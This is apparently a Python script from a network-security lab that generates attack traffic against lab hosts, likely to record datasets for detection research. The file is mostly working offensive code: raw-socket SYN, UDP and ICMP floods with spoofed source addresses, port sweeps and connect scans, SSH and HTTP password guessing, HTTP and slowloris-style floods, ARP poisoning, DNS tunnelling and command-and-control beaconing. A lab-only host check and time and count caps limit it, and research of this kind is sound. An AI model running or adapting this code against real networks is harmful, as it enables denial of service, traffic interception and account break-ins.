"""What an attacker of the lab does: `attacks.py NAME SECONDS SEED [KEY=VALUE …]`.

Every attack ends by the clock and by its count, whichever is first, and names its targets by hosts of the lab: it refuses to
run anywhere else.
"""

import os
import random
import socket
import struct
import sys
import threading
import time

from network import BEYOND, IP, MAC, NET, is_host
from protocols import LOGINS, http_basic, http_form, http_request

COUNT_MAX = 50_000
TCP_FLAGS = {"syn": 0x02, "ack": 0x10, "fin": 0x01, "null": 0x00, "xmas": 0x29, "synack": 0x12}


class Pace:
    """Until the time is up or the count is reached: `for _ in pace(gap)`, with gaps that vary by `jitter`."""

    def __init__(self, seconds):
        self.end = time.monotonic() + seconds

    def __call__(self, gap, count=COUNT_MAX, jitter=0.3):
        due = time.monotonic()
        for number in range(min(int(count), COUNT_MAX)):
            yield number
            due += gap * random.uniform(1 - jitter, 1 + jitter)
            if max(due, time.monotonic()) >= self.end:
                return
            time.sleep(max(0.0, due - time.monotonic()))

    def left(self):
        return max(0.05, self.end - time.monotonic())


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(source, target, number, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randrange(65536), 0, 64, number, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def segment(kind, source, target, port, length):
    """(protocol number, octets) of one probe or one packet of a flood."""
    if kind == "icmp":
        data = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, random.randrange(65536)) + bytes(length)
        return 1, data[:2] + struct.pack("!H", checksum(data)) + data[4:]
    if kind == "udp":
        return 17, struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + length, 0) + os.urandom(length)
    data = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50, TCP_FLAGS[kind], 1024, 0, 0)
    data += bytes(length)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(data))
    return 6, data[:16] + struct.pack("!H", checksum(pseudo + data)) + data[18:]


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(out, kind, source, target, port, length=0):
    try:
        out.sendto(ip_packet(source, target, *segment(kind, source, target, port, length)), (target, 0))
    except OSError:
        pass  # nobody has that address: the question by ARP has been asked, which is what a sweep looks like


def flood(pace, me, target, kind="syn", port=80, rate=100, count=4000, length=0, spoof=""):
    """Packets at a rate; from made-up sources where `spoof` is the beginning of their addresses, such as `172.20.`."""
    out, target = raw(), IP[target]
    for _ in pace(1 / float(rate), count):
        parts = 4 - spoof.count(".") if spoof else 0
        source = spoof + ".".join(str(random.randint(1, 254)) for _ in range(parts)) if spoof else me
        send(out, kind, source, target, int(port), int(length))


def sweep(pace, me, kind="syn", beyond=0, hosts="1-60", ports="22", rate=20, order="random"):
    """One packet to every port of every host; 1 to 60 of the LAN are no attackers."""
    first, last = map(int, hosts.split("-"))
    net = BEYOND if int(beyond) else NET
    low, high = map(int, (ports.split("-") * 2)[:2])
    pairs = [(host, port) for host in range(first, last + 1) for port in range(low, high + 1)]
    if order == "random":
        random.shuffle(pairs)
    out = raw()
    for number in pace(1 / float(rate), len(pairs)):
        host, port = pairs[number]
        send(out, kind, me, net + str(host), port)


def connect_scan(pace, me, target, ports="1-1000", rate=50):
    """Whole connections, as a scanner without rights makes them."""
    low, high = map(int, ports.split("-"))
    tried = random.sample(range(low, high + 1), high + 1 - low)
    for number in pace(1 / float(rate), len(tried)):
        try:
            socket.create_connection((IP[target], tried[number]), 0.3).close()
        except OSError:
            pass


def guess(pace, me, target, protocol="ssh", rate=2, count=2000, threads=1):
    """A password after another; as many in one connection as the server lets."""
    def one():
        for _ in pace(float(threads) / float(rate), count):
            try:
                web_guess(target, protocol) if protocol.startswith("http") else login_guess(target, LOGINS[protocol])
            except OSError:
                pass
    workers = [threading.Thread(target=one, daemon=True) for _ in range(int(threads))]
    [worker.start() for worker in workers]
    [worker.join(pace.left() + 5) for worker in workers]


def password():
    return bytes(random.choice(b"abcdefghij0123456789") for _ in range(8))


def login_guess(target, protocol):
    with socket.create_connection((IP[target], protocol.port), 2) as link:
        if protocol.greeting():
            link.recv(4096)
        for question, _ in protocol.steps:
            link.sendall(question(b"admin", password()))
            if not link.recv(4096):
                return


def web_guess(target, protocol):
    make, port = (http_form, 8080) if protocol == "http-form" else (http_basic, 80)
    with socket.create_connection((IP[target], port), 2) as link:
        for _ in range(random.choice([1, 1, 1, 8])):
            link.sendall(make(b"admin", password()))
            link.recv(4096)


def web_flood(pace, me, target, rate=4, port=80, connections=20):
    """Pages asked for without end, a connection each or many over one."""
    links = []
    for number in pace(1 / float(rate), COUNT_MAX):
        try:
            if len(links) < int(connections):
                links.append(socket.create_connection((IP[target], int(port)), 2))
            link = links[number % len(links)]
            link.settimeout(0.5)
            link.sendall(http_request(b"GET", b"/?%d" % random.getrandbits(32)))
            link.recv(65536)
            if random.random() < 0.3:
                links.remove(link)
                link.close()
        except OSError:
            links = links[1:]


def slow(pace, me, target, kind="headers", connections=60, gap=5, port=80):
    """Connections held open: by a header line at a time, a body octet by octet, or an answer read sip by sip."""
    links = []
    begin = {"headers": b"GET / HTTP/1.1\r\nHost: lab\r\n", "body": b"POST /api HTTP/1.1\r\nHost: lab\r\nContent-Length: 60000\r\n\r\n",
             "read": http_request(b"GET", b"/big")}[kind]
    for _ in pace(float(gap), jitter=0.1):
        while len(links) < int(connections) and pace.left() > 0.1:
            try:
                link = socket.socket()
                link.settimeout(1)
                link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 256 if kind == "read" else 65536)
                link.connect((IP[target], int(port)))
                link.sendall(begin)
                links.append(link)
                time.sleep(0.02)
            except OSError:
                break
        for link in list(links):
            try:
                link.recv(32) if kind == "read" else link.sendall(b"X-a: b\r\n" if kind == "headers" else b"x")
            except OSError:
                links.remove(link)


def arp_poison(pace, me, host, claims="gw", victims="cli1", gap=1, gratuitous=0.0):
    """Replies, and now and then requests, by which our hardware address claims another's address."""
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("eth0", 0))
    hardware = lambda name: bytes.fromhex(MAC[name].replace(":", ""))
    ours, claimed, victims = hardware(host), claims.split(","), victims.split(",")
    for number in pace(float(gap)):
        victim, claim = victims[number % len(victims)], claimed[number % len(claimed)]
        to, asked = hardware(victim), IP[victim]
        if random.random() < float(gratuitous):
            to, asked = b"\xff" * 6, IP[claim]
        kind = 2 if random.random() < 0.85 else 1
        out.send(to + ours + b"\x08\x06\0\1\x08\0\6\4" + kind.to_bytes(2, "big") + ours + socket.inet_aton(IP[claim]) + to + socket.inet_aton(asked))


def dns_tunnel(pace, me, server="gw", rate=4, length=120, kind=16):
    """Long names that carry data out, texts that carry it in."""
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(0.05)
    for _ in pace(1 / float(rate)):
        data = bytes(random.choice(b"abcdefghijklmnopqrstuvwxyz234567") for _ in range(int(length)))
        labels = [data[at:at + 60] for at in range(0, len(data), 60)] + [b"t", b"lab"]
        name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
        link.sendto(struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", int(kind), 1), (IP[server], 53))
        try:
            link.recv(2000)
        except OSError:
            pass


def beacon(pace, me, server, port=8443, gap=5, jitter=0.2, kept=0, protocol="tcp", length=200):
    """A call to its master every so often: a connection each time, or one that is kept, or UDP without an answer."""
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) if protocol == "udp" else None
    for _ in pace(float(gap), jitter=float(jitter)):
        try:
            if protocol == "udp":
                link.sendto(os.urandom(int(length)), (IP[server], int(port)))
                continue
            link = link or socket.create_connection((IP[server], int(port)), 2)
            link.sendall(os.urandom(int(length)))
            link.recv(500)
            if not int(kept):
                link.close()
                link = None
        except OSError:
            link = None


ATTACKS = [flood, sweep, connect_scan, guess, web_flood, slow, arp_poison, dns_tunnel, beacon]


def main(name, seconds, seed, *options):
    options = dict(option.split("=", 1) for option in options)
    host = options.pop("me", None)
    if not is_host(host):
        raise SystemExit("attacks run on a host of the lab only: record.py starts them")
    random.seed(int(seed))
    attack = {attack.__name__: attack for attack in ATTACKS}[name]
    if attack is arp_poison:
        options["host"] = host
    attack(Pace(float(seconds)), IP[host], **options)


if __name__ == "__main__":
    main(*sys.argv[1:])
